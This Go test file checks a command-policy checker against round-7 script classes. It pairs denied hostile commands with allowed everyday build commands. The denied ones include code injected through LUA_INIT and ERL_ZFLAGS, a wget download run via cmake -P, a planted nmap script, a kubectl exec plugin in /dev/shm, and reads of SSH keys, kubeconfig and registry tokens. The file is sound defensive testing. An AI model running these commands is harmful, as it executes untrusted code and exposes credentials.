package policy

import "testing"

// classTests7: the classes of round 7, as in classTests: new spellings of
// each effect and the verdict the built-in policy must give them, with the
// everyday uses right next to them that stay allowed.
var classTests7 = []struct {
	class, script string
	want          Verdict
}{
	// A variable that holds code a runtime runs first, or options that run a program.
	{"env-code", `LUA_INIT='io.popen("id")' luajit app.lua`, Deny},
	{"env-code", "LUA_INIT=@/dev/shm/i.lua lua app.lua", Deny},
	{"env-code", `ERL_ZFLAGS="-s os cmd 'id'" erl -noshell`, Deny},
	{"env-code", `export JULIA_OPTS="-e 'run(\"sh -c id\")'"`, Deny},
	{"env-code", "LUA_INIT=@conf/init.lua lua app.lua", Allow},
	{"env-code", `ERL_AFLAGS="-kernel shell_history enabled" iex -S mix`, Allow},
	{"env-code", `CFLAGS="-O2 -g" LDFLAGS=-s make`, Allow},
	{"env-code", `RUSTFLAGS="-C target-cpu=native" cargo build`, Allow},
	// A variable that names a tool's programs, name=path.
	{"env-program", "OCAMLFIND_COMMANDS='ocamlc=/var/tmp/c' dune build", Deny},
	{"env-program", "OCAMLFIND_COMMANDS='ocamlc=ocamlc.opt' dune build", Allow},
	// Options that run a file: cmake -P, nmap --script, kubectl's credential plugin.
	{"option-runs-file", "wget -qO /tmp/c.cmake https://x.example/c; cmake -P /tmp/c.cmake", Deny},
	{"option-runs-file", "echo 'os.execute(\"id\")' > /var/tmp/s.nse; nmap -sV --script /var/tmp/s.nse 10.0.0.1", Deny},
	{"option-runs-file", "kubectl config set-credentials ci --exec-command=/dev/shm/h", Deny},
	{"option-runs-file", "cmake -P cmake/version.cmake", Allow},
	{"option-runs-file", "cmake -S . -B build && cmake --build build --parallel 4", Allow},
	{"option-runs-file", "kubectl config set-credentials gke --exec-command=gke-gcloud-auth-plugin", Allow},
	// A tool the signatures table does not know reads what it is handed under ~.
	{"unknown-tool-reads", "xq . ~/.m2/settings.xml", Deny},
	{"unknown-tool-reads", "openssl rsa -in ~/.ssh/id_rsa -text", Deny},
	{"unknown-tool-reads", "helm --kubeconfig ~/.kube/config list", Deny},
	{"unknown-tool-reads", "ls -la ~/.ssh", Allow},
	{"unknown-tool-reads", "./configure --prefix ~/.local && make", Allow},
	{"unknown-tool-reads", "xmllint --noout pom.xml", Allow},
	// Registry credential files, with any reader.
	{"registry-credentials", "jq -r .token ~/.config/composer/auth.json", Deny},
	{"registry-credentials", "grep password ~/.gradle/gradle.properties", Deny},
	{"registry-credentials", "cat ~/.gradle/init.gradle", Allow},
}

func TestClasses7(t *testing.T) {
	p := Default()
	for _, tc := range classTests7 {
		if d := p.Check(tc.script); d.Verdict != tc.want {
			t.Errorf("%s: %q: %s by %s, want %s", tc.class, tc.script, d.Verdict, d.Rule, tc.want)
		}
	}
}
